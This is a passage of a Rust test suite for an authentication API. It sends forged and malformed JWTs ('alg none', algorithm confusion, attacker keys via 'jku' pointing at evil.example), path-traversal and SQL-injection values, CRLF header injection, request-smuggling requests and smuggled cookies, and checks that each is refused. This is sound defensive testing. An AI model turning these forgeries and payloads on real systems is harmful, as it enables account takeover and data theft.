//! Every attack on the HTTP surface, listed in one place and table-driven: forged and
//! malformed access tokens, hostile `Authorization` and `Cookie` headers, malformed
//! header lines, and SQL or JSON payloads in every string field of every endpoint.
//! Each case names the status and the stable code it must get — a 4xx, never a 5xx —
//! and what it aimed at (the session, the database) is checked intact afterwards.
//! Other files test each feature; some of their cases are repeated here so that this
//! list is complete.

use std::time::Duration;

use jsonwebtoken::{Algorithm, DecodingKey, EncodingKey};
use reqwest::header::{AUTHORIZATION, COOKIE, HeaderValue, ORIGIN};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use tessera_application::SigningAlgorithm;
use tessera_application::ports::{SigningKeyGenerator, SigningKeyRepository};
use tessera_infra_crypto::RandomSigningKeyGenerator;
use tessera_infra_diesel::{Database, DieselSigningKeyRepository};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

use crate::helpers::{
    Backend, PASSWORD, Reply, TestApp, base64url_decode, base64url_encode, jwt_segment,
    percent_encode, spawn_app, spawn_app_on, test_database, unique_email,
};

on_both_backends!(
    forged_and_malformed_access_tokens_are_refused,
    hostile_authorization_headers_and_header_lines_are_refused,
    smuggled_duplicate_and_oversized_cookies_are_refused_and_consume_nothing,
    sql_and_json_payloads_in_every_field_are_refused_and_the_database_stays_intact,
);

// ---------------------------------------------------------------------------------
// Access tokens

/// One change to genuine claims.
type ClaimEdit<'a> = Box<dyn Fn(&mut Value) + 'a>;

/// One forged or malformed access token and the code it must be refused with (401).
struct TokenCase {
    name: String,
    token: String,
    code: &'static str,
}

fn case(name: impl Into<String>, token: impl Into<String>) -> TokenCase {
    TokenCase {
        name: name.into(),
        token: token.into(),
        code: "unauthorized",
    }
}

async fn forged_and_malformed_access_tokens_are_refused(backend: Backend) {
    let Some((app, database)) = spawn_with_database(backend, &[]).await else {
        return;
    };
    let pair = app.new_session().await;
    let token = pair.access_token.clone();
    let other = app.new_session().await;
    let ended = app.new_session().await;
    app.logout(&ended.access_token).await.assert_no_content();

    // What an attacker sees: the published key.
    let jwks = app.get("/.well-known/jwks.json").await;
    assert_eq!(jwks.status, StatusCode::OK, "{jwks:?}");
    let jwk = jwks.json["keys"][0].clone();
    let kid = jwk["kid"].as_str().expect("a kid").to_owned();
    let x = jwk["x"].as_str().expect("an Ed25519 key").to_owned();
    // What only the server has: the private key, to forge claims that nothing but the
    // claim checks can refuse.
    let server_key = server_signing_key(&database, &kid).await;

    let header = jwt_segment(&token, 0);
    let claims = jwt_segment(&token, 1);
    assert_eq!(header["alg"], "EdDSA");
    let (signed_part, signature) = token.rsplit_once('.').unwrap();
    let (header_b64, payload_b64) = signed_part.split_once('.').unwrap();
    let eddsa = |header: &Value, claims: &Value| jws(header, claims, &server_key, Algorithm::EdDSA);
    let with_claims = |edit: &dyn Fn(&mut Value)| {
        let mut claims = claims.clone();
        edit(&mut claims);
        eddsa(&header, &claims)
    };
    let with_header = |edit: &dyn Fn(&mut Value)| {
        let mut header = header.clone();
        edit(&mut header);
        eddsa(&header, &claims)
    };

    // The control: the genuine header and claims signed again by this file's forging
    // code pass, so each refusal below is owed to what its case changed.
    let resigned = eddsa(&header, &claims);
    let me = app.me(&resigned).await;
    assert_eq!(
        me.status,
        StatusCode::OK,
        "the forging code is wrong: {me:?}"
    );

    let now = now_seconds();
    let mut cases = Vec::new();

    // `alg: none`, in every spelling, with and without a signature.
    for alg in ["none", "None", "NONE", "nOnE"] {
        let none = b64_json(&json!({ "alg": alg, "typ": "at+jwt", "kid": kid }));
        cases.push(case(
            format!("alg {alg}, unsigned"),
            format!("{none}.{payload_b64}."),
        ));
        cases.push(case(
            format!("alg {alg}, junk signature"),
            format!("{none}.{payload_b64}.{signature}"),
        ));
    }
    let bare_none = b64_json(&json!({ "alg": "none" }));
    cases.push(case(
        "alg none, no typ, no kid",
        format!("{bare_none}.{payload_b64}."),
    ));

    // Algorithm confusion: HMAC keyed with the public key in each form it can be found.
    let raw_key = base64url_decode(&x);
    let spki = [ED25519_SPKI_PREFIX.as_slice(), raw_key.as_slice()].concat();
    let pem = format!(
        "-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n",
        standard_base64(&spki)
    );
    let secrets: [(&str, Vec<u8>); 8] = [
        ("the JWK's x as text", x.clone().into_bytes()),
        ("the raw public key", raw_key.clone()),
        ("the SPKI DER", spki.clone()),
        ("the PEM", pem.clone().into_bytes()),
        (
            "the PEM without its last newline",
            pem.trim_end().as_bytes().to_vec(),
        ),
        ("the JWK as JSON", jwk.to_string().into_bytes()),
        ("the JWKS document", jwks.text.clone().into_bytes()),
        ("nothing", Vec::new()),
    ];
    for (what, secret) in &secrets {
        let hmac = EncodingKey::from_secret(secret);
        for (name, alg) in [
            ("HS256", Algorithm::HS256),
            ("HS384", Algorithm::HS384),
            ("HS512", Algorithm::HS512),
        ] {
            let forged_header = json!({ "alg": name, "typ": "at+jwt", "kid": kid });
            cases.push(case(
                format!("{name} keyed with {what}"),
                jws(&forged_header, &claims, &hmac, alg),
            ));
        }
        let no_kid = json!({ "alg": "HS256", "typ": "at+jwt" });
        cases.push(case(
            format!("HS256 keyed with {what}, no kid"),
            jws(&no_kid, &claims, &hmac, Algorithm::HS256),
        ));
    }
    // The header says EdDSA, the signature is an HMAC with the public key.
    let hmac_input = format!("{header_b64}.{payload_b64}");
    let hmac_signature = jsonwebtoken::crypto::sign(
        hmac_input.as_bytes(),
        &EncodingKey::from_secret(&raw_key),
        Algorithm::HS256,
    )
    .unwrap();
    cases.push(case(
        "EdDSA header over an HMAC signature",
        format!("{hmac_input}.{hmac_signature}"),
    ));

    // `kid` that names no key, signed with the real key: only the `kid` is wrong.
    for (what, bad_kid) in [
        ("an unknown kid", json!("unknown-key")),
        ("an empty kid", json!("")),
        (
            "a kid with path traversal",
            json!("../../../../../../dev/null"),
        ),
        ("an absolute path as kid", json!("/etc/passwd")),
        ("a file URL as kid", json!("file:///etc/passwd")),
        ("a kid with SQL", json!("' OR '1'='1")),
        (
            "a kid with a UNION SELECT",
            json!("x' UNION SELECT private_key FROM signing_keys --"),
        ),
        ("a kid with a NUL byte", json!(format!("{kid}\u{0}"))),
        ("the real kid with a suffix", json!(format!("{kid}x"))),
        ("the real kid in another case", json!(swap_case(&kid))),
        ("a 2 000-character kid", json!("k".repeat(2000))),
        ("a number as kid", json!(1)),
        ("an array as kid", json!([kid])),
        ("an object as kid", json!({ "$ne": null })),
        ("a null kid", Value::Null),
    ] {
        cases.push(case(
            what,
            with_header(&|header| header["kid"] = bad_kid.clone()),
        ));
    }
    cases.push(case(
        "no kid",
        with_header(&|header| {
            header.as_object_mut().unwrap().remove("kid");
        }),
    ));

    // Keys the token brings along must be ignored: an attacker's key, embedded (`jwk`)
    // or pointed to (`jku`, `x5u`, `x5c`), signing the token.
    let attacker = RandomSigningKeyGenerator
        .generate(
            SigningAlgorithm::EdDsa,
            chrono::DateTime::from_timestamp(now, 0).unwrap(),
        )
        .unwrap();
    let attacker_key = EncodingKey::from_ed_der(attacker.private_key.expose());
    let attacker_jwk = json!({
        "kty": "OKP", "crv": "Ed25519", "alg": "EdDSA", "use": "sig",
        "kid": attacker.kid, "x": base64url_encode(&attacker.public_key),
    });
    for (what, kid_used) in [
        ("its own kid", attacker.kid.as_str()),
        ("the server's kid", kid.as_str()),
    ] {
        let injected = [
            ("jwk", attacker_jwk.clone()),
            ("jku", json!("https://evil.example/.well-known/jwks.json")),
            ("x5u", json!("https://evil.example/cert.pem")),
            ("x5c", json!([standard_base64(b"not a certificate")])),
        ];
        for (parameter, value) in injected {
            let mut forged_header = json!({ "alg": "EdDSA", "typ": "at+jwt", "kid": kid_used });
            forged_header[parameter] = value;
            let forged = jws(&forged_header, &claims, &attacker_key, Algorithm::EdDSA);
            // Sound under the key it brings: only ignoring that key refuses it.
            let (message, signature) = forged.rsplit_once('.').unwrap();
            assert!(
                jsonwebtoken::crypto::verify(
                    signature,
                    message.as_bytes(),
                    &DecodingKey::from_ed_der(&attacker.public_key),
                    Algorithm::EdDSA,
                )
                .unwrap()
            );
            cases.push(case(
                format!("an attacker's key in `{parameter}` with {what}"),
                forged,
            ));
        }
    }

    // Claims the server's own key signed, each wrong in one way.
    let issuer = claims["iss"].clone();
    let audience = claims["aud"].clone();
    let claim_cases: Vec<(&str, ClaimEdit<'_>)> = vec![
        (
            "a wrong iss",
            Box::new(|c| c["iss"] = json!("https://evil.example")),
        ),
        (
            "iss with a trailing slash",
            Box::new(|c| c["iss"] = json!(format!("{}/", issuer.as_str().unwrap()))),
        ),
        // RFC 7519 §4.1.1: `iss` is one string (jsonwebtoken alone takes any array that
        // contains the issuer).
        ("iss as an array", Box::new(|c| c["iss"] = json!([issuer]))),
        (
            "iss as an array with another issuer",
            Box::new(|c| c["iss"] = json!(["https://evil.example", issuer])),
        ),
        ("iss as an empty array", Box::new(|c| c["iss"] = json!([]))),
        ("no iss", Box::new(|c| remove(c, "iss"))),
        ("a wrong aud", Box::new(|c| c["aud"] = json!("another-api"))),
        (
            "aud as an array of others",
            Box::new(|c| c["aud"] = json!(["another-api"])),
        ),
        ("an empty aud array", Box::new(|c| c["aud"] = json!([]))),
        (
            "aud as an object",
            Box::new(|c| c["aud"] = json!({ "$in": [audience] })),
        ),
        ("no aud", Box::new(|c| remove(c, "aud"))),
        ("no sub", Box::new(|c| remove(c, "sub"))),
        ("no sid", Box::new(|c| remove(c, "sid"))),
        ("no jti", Box::new(|c| remove(c, "jti"))),
        ("no roles", Box::new(|c| remove(c, "roles"))),
        (
            "sub with SQL",
            Box::new(|c| c["sub"] = json!("' OR '1'='1")),
        ),
        (
            "sid with SQL",
            Box::new(|c| c["sid"] = json!("'; DROP TABLE sessions; --")),
        ),
        ("sub as a number", Box::new(|c| c["sub"] = json!(1))),
        (
            "sid as an object",
            Box::new(|c| c["sid"] = json!({ "$ne": null })),
        ),
        (
            "a role that is no role name",
            Box::new(|c| c["roles"] = json!(["root; DROP TABLE users"])),
        ),
        (
            "expired a minute ago (beyond the 30 s leeway)",
            Box::new(move |c| c["exp"] = json!(now - 60)),
        ),
        ("expired in 1970", Box::new(|c| c["exp"] = json!(0))),
        (
            "exp before the year 0",
            Box::new(|c| c["exp"] = json!(i64::MIN)),
        ),
        (
            "exp past the last representable instant",
            Box::new(|c| c["exp"] = json!(i64::MAX)),
        ),
        (
            "exp as a string",
            Box::new(move |c| c["exp"] = json!((now + 600).to_string())),
        ),
        ("exp as a float", Box::new(move |c| c["exp"] = json!(1e300))),
        ("no exp", Box::new(|c| remove(c, "exp"))),
        (
            "nbf in the future (beyond the leeway)",
            Box::new(move |c| c["nbf"] = json!(now + 300)),
        ),
        (
            "nbf past the last representable instant",
            Box::new(|c| c["nbf"] = json!(i64::MAX)),
        ),
        (
            "iat in the future and no nbf",
            Box::new(move |c| {
                remove(c, "nbf");
                c["iat"] = json!(now + 300);
            }),
        ),
        (
            "iat in the future with nbf now",
            Box::new(move |c| c["iat"] = json!(now + 300)),
        ),
        (
            "iat past the last representable instant",
            Box::new(|c| c["iat"] = json!(i64::MAX)),
        ),
        (
            "a huge claim (over 8 KiB)",
            Box::new(|c| c["pad"] = json!("p".repeat(9000))),
        ),
    ];
    for (what, edit) in &claim_cases {
        cases.push(case(*what, with_claims(edit.as_ref())));
    }
    for (what, typ) in [
        ("typ JWT", json!("JWT")),
        ("typ jwt", json!("jwt")),
        ("typ application/jwt", json!("application/jwt")),
        ("typ at+jwt with a space", json!("at+jwt ")),
        ("typ of a refresh token", json!("rt+jwt")),
        ("typ as an array", json!(["at+jwt"])),
        ("typ null", Value::Null),
    ] {
        cases.push(case(
            what,
            with_header(&|header| header["typ"] = typ.clone()),
        ));
    }
    cases.push(case("no typ", with_header(&|header| remove(header, "typ"))));
    cases.push(case(
        "a critical header parameter",
        with_header(&|header| header["crit"] = json!(["exp"])),
    ));
    // Duplicate keys: a parser that keeps the last one would see `none`.
    let duplicate_alg = format!(r#"{{"alg":"EdDSA","typ":"at+jwt","kid":"{kid}","alg":"none"}}"#);
    cases.push(case(
        "a header with two alg",
        jws_raw(
            &base64url_encode(duplicate_alg.as_bytes()),
            payload_b64,
            &server_key,
            Algorithm::EdDSA,
        ),
    ));
    cases.push(case(
        "a header that is a JSON array",
        jws_raw(
            &b64_json(&json!([header])),
            payload_b64,
            &server_key,
            Algorithm::EdDSA,
        ),
    ));
    cases.push(case(
        "a payload that is a JSON array",
        jws_raw(
            header_b64,
            &b64_json(&json!([claims])),
            &server_key,
            Algorithm::EdDSA,
        ),
    ));
    cases.push(case(
        "a payload that is not JSON",
        jws_raw(
            header_b64,
            &base64url_encode(b"' OR '1'='1"),
            &server_key,
            Algorithm::EdDSA,
        ),
    ));

    // Structure: tampered, truncated, extended, swapped.
    let mut forged_roles = claims.clone();
    forged_roles["roles"] = json!(["admin"]);
    cases.push(case(
        "claims rewritten (admin role), signature kept",
        format!("{header_b64}.{}.{signature}", b64_json(&forged_roles)),
    ));
    cases.push(case(
        "a character of the payload changed",
        flip(&token, header_b64.len() + 1 + payload_b64.len() / 2),
    ));
    cases.push(case(
        "a character of the signature changed",
        flip(&token, token.len() - 10),
    ));
    let other_signature = other.access_token.rsplit_once('.').unwrap().1;
    cases.push(case(
        "a valid token with the signature of another",
        format!("{signed_part}.{other_signature}"),
    ));
    cases.push(case(
        "the signature truncated by 4 characters",
        &token[..token.len() - 4],
    ));
    cases.push(case("the signature removed", format!("{signed_part}.")));
    cases.push(case("header and payload only", signed_part));
    cases.push(case("the header only", header_b64));
    cases.push(case("a fourth segment", format!("{token}.{signature}")));
    cases.push(case("a trailing dot", format!("{token}.")));
    cases.push(case("a leading dot", format!(".{token}")));
    cases.push(case("padding on the signature", format!("{token}==")));
    // A valid token whose signature has a character the two base64 alphabets spell
    // differently (an earlier `nbf` varies the signature until one does), respelled.
    let standard_alphabet = (0..1000)
        .map(|earlier| with_claims(&|c| c["nbf"] = json!(now - 60 - earlier)))
        .find_map(|valid| {
            let (signed, signature) = valid.rsplit_once('.').unwrap();
            let respelled = signature.replace('-', "+").replace('_', "/");
            (respelled != signature).then(|| format!("{signed}.{respelled}"))
        })
        .expect("a signature with `-` or `_`");
    cases.push(case("the signature in standard base64", standard_alphabet));
    cases.push(case("two dots", ".."));
    cases.push(case(
        "a refresh token as bearer",
        pair.refresh_token.clone(),
    ));
    cases.push(case("random bytes in three segments", {
        let mut random = Lcg(0x5eed);
        format!(
            "{}.{}.{}",
            base64url_encode(&random.bytes(30)),
            base64url_encode(&random.bytes(200)),
            base64url_encode(&random.bytes(64))
        )
    }));
    cases.push(TokenCase {
        name: "the token of a logged-out session".to_owned(),
        token: ended.access_token.clone(),
        code: "session_revoked",
    });

    // Every case is tried before anything fails, so a failure lists all the holes.
    let mut accepted = Vec::new();
    for case in &cases {
        for path in ["/v1/auth/me", "/v1/auth/verify"] {
            let reply = app
                .send(app.client.get(app.url(path)).bearer_auth(&case.token))
                .await;
            if reply.status != StatusCode::UNAUTHORIZED || reply.json["code"] != case.code {
                accepted.push(format!(
                    "{} on {path}: {} {}",
                    case.name, reply.status, reply.text
                ));
                continue;
            }
            reply.assert_problem(401, case.code);
            assert!(
                reply.header("x-auth-user").is_none(),
                "{}: {reply:?}",
                case.name
            );
        }
    }
    assert!(
        accepted.is_empty(),
        "not refused as expected:\n{}",
        accepted.join("\n")
    );
    assert!(cases.len() > 100, "{} cases", cases.len());

    // None of it touched the real sessions.
    assert_eq!(app.me(&token).await.status, StatusCode::OK);
    assert_eq!(app.me(&other.access_token).await.status, StatusCode::OK);
    app.refresh(&pair.refresh_token).await.token_pair();
}

// ---------------------------------------------------------------------------------
// Authorization headers, and header lines no HTTP parser should accept

async fn hostile_authorization_headers_and_header_lines_are_refused(backend: Backend) {
    let Some(app) = spawn_app(backend, &[]).await else {
        return;
    };
    let pair = app.new_session().await;
    let token = pair.access_token.as_str();
    let other = app.new_session().await;

    let mut random = Lcg(0xbad_5eed);
    // Bytes a header value may carry (visible ASCII, space, tab, obs-text), at random.
    let random_header = |random: &mut Lcg, len| -> Vec<u8> {
        random
            .bytes(len * 2)
            .into_iter()
            .filter(|b| matches!(b, b'\t' | 0x20..=0x7e | 0x80..=0xff))
            .take(len)
            .collect()
    };
    let bearer_bytes = |bytes: &[u8]| [b"Bearer ".as_slice(), bytes].concat();

    // Each case: the `Authorization` lines of the request; each must get 401 `unauthorized`.
    let refused: Vec<(&str, Vec<Vec<u8>>)> = vec![
        (
            "two bearer tokens in one header",
            vec![format!("Bearer {token}, Bearer {}", other.access_token).into_bytes()],
        ),
        (
            "two tokens after one scheme",
            vec![format!("Bearer {token} {}", other.access_token).into_bytes()],
        ),
        (
            "two tokens separated by a comma",
            vec![format!("Bearer {token},{}", other.access_token).into_bytes()],
        ),
        (
            "a garbage header before the real one",
            vec![
                b"Bearer a.b.c".to_vec(),
                format!("Bearer {token}").into_bytes(),
            ],
        ),
        (
            "the scheme twice",
            vec![format!("Bearer Bearer {token}").into_bytes()],
        ),
        (
            "no space after the scheme",
            vec![format!("Bearer{token}").into_bytes()],
        ),
        (
            "a tab after the scheme",
            vec![format!("Bearer\t{token}").into_bytes()],
        ),
        (
            "a colon after the scheme",
            vec![format!("Bearer:{token}").into_bytes()],
        ),
        (
            "an equals sign after the scheme",
            vec![format!("Bearer={token}").into_bytes()],
        ),
        (
            "the token quoted",
            vec![format!("Bearer \"{token}\"").into_bytes()],
        ),
        (
            "a space inside the token",
            vec![format!("Bearer {}", token.replacen('.', ". ", 1)).into_bytes()],
        ),
        (
            "Basic with the token",
            vec![format!("Basic {token}").into_bytes()],
        ),
        ("Token scheme", vec![format!("Token {token}").into_bytes()]),
        ("DPoP scheme", vec![format!("DPoP {token}").into_bytes()]),
        ("only the scheme", vec![b"Bearer".to_vec()]),
        ("an empty header", vec![Vec::new()]),
        (
            "the token without a scheme",
            vec![token.as_bytes().to_vec()],
        ),
        (
            "a refresh token",
            vec![format!("Bearer {}", pair.refresh_token).into_bytes()],
        ),
        (
            "obs-text bytes",
            vec![bearer_bytes(&[
                0xc0, 0xaf, 0xff, 0xfe, b'.', 0x80, b'.', 0xe2,
            ])],
        ),
        (
            "the token followed by obs-text",
            vec![[format!("Bearer {token}").as_bytes(), &[0xff]].concat()],
        ),
        (
            "16 KiB without dots",
            vec![bearer_bytes(&vec![b'a'; 16 * 1024])],
        ),
        (
            "16 KiB shaped like a JWT",
            vec![
                format!(
                    "Bearer {}.{}.{}",
                    "a".repeat(8000),
                    "b".repeat(8000),
                    "c".repeat(500)
                )
                .into_bytes(),
            ],
        ),
        (
            "64 KiB shaped like a JWT",
            vec![
                format!(
                    "Bearer {}.{}.{}",
                    "a".repeat(32_000),
                    "b".repeat(32_000),
                    "c".repeat(1000)
                )
                .into_bytes(),
            ],
        ),
        (
            "the real token padded to 16 KiB",
            vec![format!("Bearer {token}{}", "A".repeat(16 * 1024)).into_bytes()],
        ),
        (
            "random bytes (64)",
            vec![bearer_bytes(&random_header(&mut random, 64))],
        ),
        (
            "random bytes (1 KiB)",
            vec![bearer_bytes(&random_header(&mut random, 1024))],
        ),
        (
            "random bytes (16 KiB)",
            vec![bearer_bytes(&random_header(&mut random, 16 * 1024))],
        ),
        (
            "random bytes without a scheme",
            vec![random_header(&mut random, 300)],
        ),
    ];
    for (name, lines) in &refused {
        for path in ["/v1/auth/me", "/v1/auth/verify"] {
            let mut request = app.client.get(app.url(path));
            for line in lines {
                let value = HeaderValue::from_bytes(line)
                    .unwrap_or_else(|error| panic!("{name}: not a header value: {error}"));
                request = request.header(AUTHORIZATION, value);
            }
            let reply = app.send(request).await;
            assert!(!reply.status.is_server_error(), "{name}: a 5xx: {reply:?}");
            assert_eq!(
                reply.status,
                StatusCode::UNAUTHORIZED,
                "{name} on {path}: {reply:?}"
            );
            reply.assert_problem(401, "unauthorized");
        }
    }

    // What RFC 9110 §11.1 (the scheme is case-insensitive) and RFC 6750 §2.1
    // (`"Bearer" 1*SP b64token`) allow is accepted; these are spellings, not attacks.
    for (name, value) in [
        ("lower-case scheme", format!("bearer {token}")),
        ("upper-case scheme", format!("BEARER {token}")),
        ("three spaces after the scheme", format!("Bearer   {token}")),
        ("trailing spaces", format!("Bearer {token}   ")),
    ] {
        let reply = app
            .send(
                app.client
                    .get(app.url("/v1/auth/me"))
                    .header(AUTHORIZATION, value),
            )
            .await;
        assert_eq!(reply.status, StatusCode::OK, "{name}: {reply:?}");
    }
    // Of two `Authorization` lines the first is read (the garbage-first order is refused
    // above); pinned so that a change is deliberate:
    let reply = app
        .send(
            app.client
                .get(app.url("/v1/auth/me"))
                .header(AUTHORIZATION, format!("Bearer {token}"))
                .header(AUTHORIZATION, "Bearer a.b.c"),
        )
        .await;
    assert_eq!(reply.status, StatusCode::OK, "{reply:?}");

    // Header lines with CR, NUL or folding never reach the app: the HTTP parser
    // answers 400 (no body, so no problem code) and closes the connection.
    let host = app.address.trim_start_matches("http://").to_owned();
    let bad_lines: [(&str, String); 8] = [
        (
            "a bare CR splitting the Authorization header",
            format!("Authorization: Bearer {token}\rX-Injected: 1\r\n"),
        ),
        (
            "a NUL byte in the Authorization header",
            "Authorization: Bearer a.b\0.c\r\n".to_owned(),
        ),
        (
            "a NUL byte in a cookie",
            "Cookie: tessera_refresh=a\0b\r\n".to_owned(),
        ),
        (
            "a bare CR in a cookie",
            "Cookie: tessera_refresh=a\rSet-Cookie: evil=1\r\n".to_owned(),
        ),
        (
            "a folded (obs-fold) Authorization header",
            format!("Authorization: Bearer\r\n {token}\r\n"),
        ),
        (
            "a space before the colon",
            format!("Authorization : Bearer {token}\r\n"),
        ),
        (
            "a header name with a slash",
            "Cookie/Evil: x\r\n".to_owned(),
        ),
        (
            "a DEL byte in a header value",
            "Cookie: a=\u{7f}\r\n".to_owned(),
        ),
    ];
    let raw_request = |line: &str| {
        format!("GET /v1/auth/me HTTP/1.1\r\nHost: {host}\r\n{line}Connection: close\r\n\r\n")
    };
    // The control: well-formed, the same request reaches the app.
    let control = raw_request(&format!("Authorization: Bearer {token}\r\n"));
    assert_eq!(raw_status(&host, control.as_bytes()).await, 200);
    assert_eq!(raw_status(&host, raw_request("").as_bytes()).await, 401);
    for (name, line) in &bad_lines {
        let status = raw_status(&host, raw_request(line).as_bytes()).await;
        assert_eq!(status, 400, "{name}");
    }
    let smuggling: [(&str, String); 3] = [
        (
            "two different Content-Lengths",
            format!(
                "POST /v1/auth/refresh HTTP/1.1\r\nHost: {host}\r\n\
                 Content-Type: application/json\r\nContent-Length: 2\r\n\
                 Content-Length: 30\r\nConnection: close\r\n\r\n{{}}"
            ),
        ),
        (
            "a CRLF in the request target",
            format!(
                "GET /v1/auth/me\r\nX-Injected: 1 HTTP/1.1\r\nHost: {host}\r\n\
                 Connection: close\r\n\r\n"
            ),
        ),
        (
            "a Content-Length that is not a number",
            format!(
                "POST /v1/auth/refresh HTTP/1.1\r\nHost: {host}\r\n\
                 Content-Type: application/json\r\nContent-Length: 2, 2\r\n\
                 Connection: close\r\n\r\n{{}}"
            ),
        ),
    ];
    for (name, request) in &smuggling {
        let status = raw_status(&host, request.as_bytes()).await;
        assert_eq!(status, 400, "{name}");
    }

    // The server is fine, and so are the sessions.
    assert_eq!(app.get("/healthz").await.status, StatusCode::OK);
    assert_eq!(app.me(token).await.status, StatusCode::OK);
    assert_eq!(app.me(&other.access_token).await.status, StatusCode::OK);
}

/// Sends `request` as raw bytes on a new connection and reads the status code of the
/// answer.
async fn raw_status(host: &str, request: &[u8]) -> u16 {
    let mut stream = TcpStream::connect(host).await.expect("a connection");
    stream
        .write_all(request)
        .await
        .expect("the request is sent");
    let mut answer = Vec::new();
    let read = tokio::time::timeout(Duration::from_secs(10), async {
        let mut buffer = [0_u8; 1024];
        while !answer.windows(2).any(|w| w == b"\r\n") {
            match stream.read(&mut buffer).await {
                Ok(0) | Err(_) => break,
                Ok(n) => answer.extend_from_slice(&buffer[..n]),
            }
        }
    })
    .await;
    assert!(
        read.is_ok(),
        "no answer to {:?}",
        String::from_utf8_lossy(request)
    );
    let status_line = String::from_utf8_lossy(&answer);
    status_line
        .split(' ')
        .nth(1)
        .and_then(|code| code.parse().ok())
        .unwrap_or_else(|| panic!("not an HTTP answer: {status_line:?}"))
}

// ---------------------------------------------------------------------------------
// Cookies

/// The default (`Secure`) cookie names: a sibling subdomain cannot plant these.
const REFRESH: &str = "__Secure-tessera_refresh";
const CSRF: &str = "__Host-tessera_csrf";
const ACCESS: &str = "__Host-tessera_access";

/// (name, method, path, `Cookie` header, `X-CSRF-Token`, status, code).
type AccessCookieCase<'a> = (
    &'a str,
    Method,
    &'a str,
    String,
    Option<String>,
    u16,
    &'a str,
);

/// A browser's cookies for one session.
#[derive(Debug, Clone)]
struct BrowserSession {
    refresh: String,
    csrf: String,
    access: String,
    session_id: String,
}

async fn smuggled_duplicate_and_oversized_cookies_are_refused_and_consume_nothing(
    backend: Backend,
) {
    // No grace: a refresh token consumed by a refused request would show as reuse.
    let Some(app) = spawn_app(
        backend,
        &[
            ("TESSERA_REUSE_GRACE", "0s"),
            ("TESSERA_ACCESS_COOKIE", "true"),
        ],
    )
    .await
    else {
        return;
    };
    let a = browser_login(&app).await;
    let b = browser_login(&app).await;
    let own = app.address.clone();
    let big = "A".repeat(16 * 1024);
    let huge_cookie = format!("{}{}", "B".repeat(60 * 1024), a.refresh);

    // (name, Cookie header, X-CSRF-Token, status, code) for a refresh from our own page.
    let refresh_cases: Vec<(&str, String, Option<String>, u16, &str)> = vec![
        (
            "CRLF percent-encoded into the refresh cookie",
            format!(
                "{CSRF}={}; {REFRESH}={}%0D%0ASet-Cookie:%20evil=1",
                a.csrf, a.refresh
            ),
            Some(a.csrf.clone()),
            401,
            "refresh_token_invalid",
        ),
        (
            "a NUL percent-encoded into the refresh cookie",
            format!("{CSRF}={}; {REFRESH}={}%00", a.csrf, a.refresh),
            Some(a.csrf.clone()),
            401,
            "refresh_token_invalid",
        ),
        (
            "a second cookie smuggled in a quoted value",
            format!(
                "{CSRF}={}; {REFRESH}=\"{}; {CSRF}=evil\"",
                a.csrf, a.refresh
            ),
            Some(a.csrf.clone()),
            401,
            "refresh_token_invalid",
        ),
        (
            "a garbage refresh cookie before the real one",
            format!(
                "{CSRF}={}; {REFRESH}=garbage; {REFRESH}={}",
                a.csrf, a.refresh
            ),
            Some(a.csrf.clone()),
            401,
            "refresh_token_invalid",
        ),
        (
            "a garbage refresh cookie in a first Cookie header line",
            format!(
                "{REFRESH}=garbage\u{0}{CSRF}={}; {REFRESH}={}",
                a.csrf, a.refresh
            ),
            Some(a.csrf.clone()),
            401,
            "refresh_token_invalid",
        ),
        (
            "an unprefixed refresh cookie (a sibling subdomain could plant it)",
            format!("{CSRF}={}; tessera_refresh={}", a.csrf, a.refresh),
            Some(a.csrf.clone()),
            401,
            "refresh_token_invalid",
        ),
        (
            "an unprefixed CSRF cookie matching the header",
            format!("{REFRESH}={}; tessera_csrf=planted", a.refresh),
            Some("planted".to_owned()),
            403,
            "csrf_failed",
        ),
        (
            "a planted second CSRF cookie matching the header",
            format!("{REFRESH}={}; {CSRF}={}; {CSRF}=planted", a.refresh, a.csrf),
            Some("planted".to_owned()),
            403,
            "csrf_failed",
        ),
        (
            "another session's refresh cookie, this session's CSRF cookie, no header",
            format!("{REFRESH}={}; {CSRF}={}", b.refresh, a.csrf),
            None,
            403,
            "csrf_failed",
        ),
        (
            "another session's refresh cookie, CSRF cookie and header of different sessions",
            format!("{REFRESH}={}; {CSRF}={}", b.refresh, a.csrf),
            Some(b.csrf.clone()),
            403,
            "csrf_failed",
        ),
        (
            "the CSRF header twice in one value",
            format!("{REFRESH}={}; {CSRF}={}", a.refresh, a.csrf),
            Some(format!("{}, {}", a.csrf, a.csrf)),
            403,
            "csrf_failed",
        ),
        (
            "an empty CSRF cookie and an empty header",
            format!("{REFRESH}={}; {CSRF}=", a.refresh),
            Some(String::new()),
            403,
            "csrf_failed",
        ),
        (
            "a CSRF cookie and header differing in the last byte",
            format!("{REFRESH}={}; {CSRF}={}x", a.refresh, a.csrf),
            Some(format!("{}y", a.csrf)),
            403,
            "csrf_failed",
        ),
        (
            "a 16 KiB refresh cookie",
            format!("{CSRF}={}; {REFRESH}={big}", a.csrf),
            Some(a.csrf.clone()),
            401,
            "refresh_token_invalid",
        ),
        (
            "16 KiB CSRF cookie and header that differ",
            format!("{REFRESH}={}; {CSRF}={big}", a.refresh),
            Some(format!("{big}x")),
            403,
            "csrf_failed",
        ),
        (
            "a 60 KiB Cookie header",
            format!("{CSRF}={}; {REFRESH}={huge_cookie}", a.csrf),
            Some(a.csrf.clone()),
            401,
            "refresh_token_invalid",
        ),
        (
            "the access token in the refresh cookie",
            format!("{CSRF}={}; {REFRESH}={}", a.csrf, a.access),
            Some(a.csrf.clone()),
            401,
            "refresh_token_invalid",
        ),
        (
            "SQL in the refresh cookie",
            format!("{CSRF}={}; {REFRESH}=' OR '1'='1", a.csrf),
            Some(a.csrf.clone()),
            401,
            "refresh_token_invalid",
        ),
        (
            "cookies without values",
            format!(";;; =; {REFRESH}; {CSRF}"),
            Some(a.csrf.clone()),
            401,
            "refresh_token_invalid",
        ),
        (
            "an empty refresh cookie",
            format!("{CSRF}={}; {REFRESH}=", a.csrf),
            Some(a.csrf.clone()),
            401,
            "refresh_token_invalid",
        ),
    ];
    for (name, cookies, csrf, status, code) in &refresh_cases {
        let reply = app
            .send(cookie_request(
                &app,
                Method::POST,
                "/v1/auth/refresh",
                cookies,
                csrf.as_deref(),
                &own,
            ))
            .await;
        assert!(!reply.status.is_server_error(), "{name}: a 5xx: {reply:?}");
        assert_eq!(reply.status.as_u16(), *status, "{name}: {reply:?}");
        reply.assert_problem(*status, code);
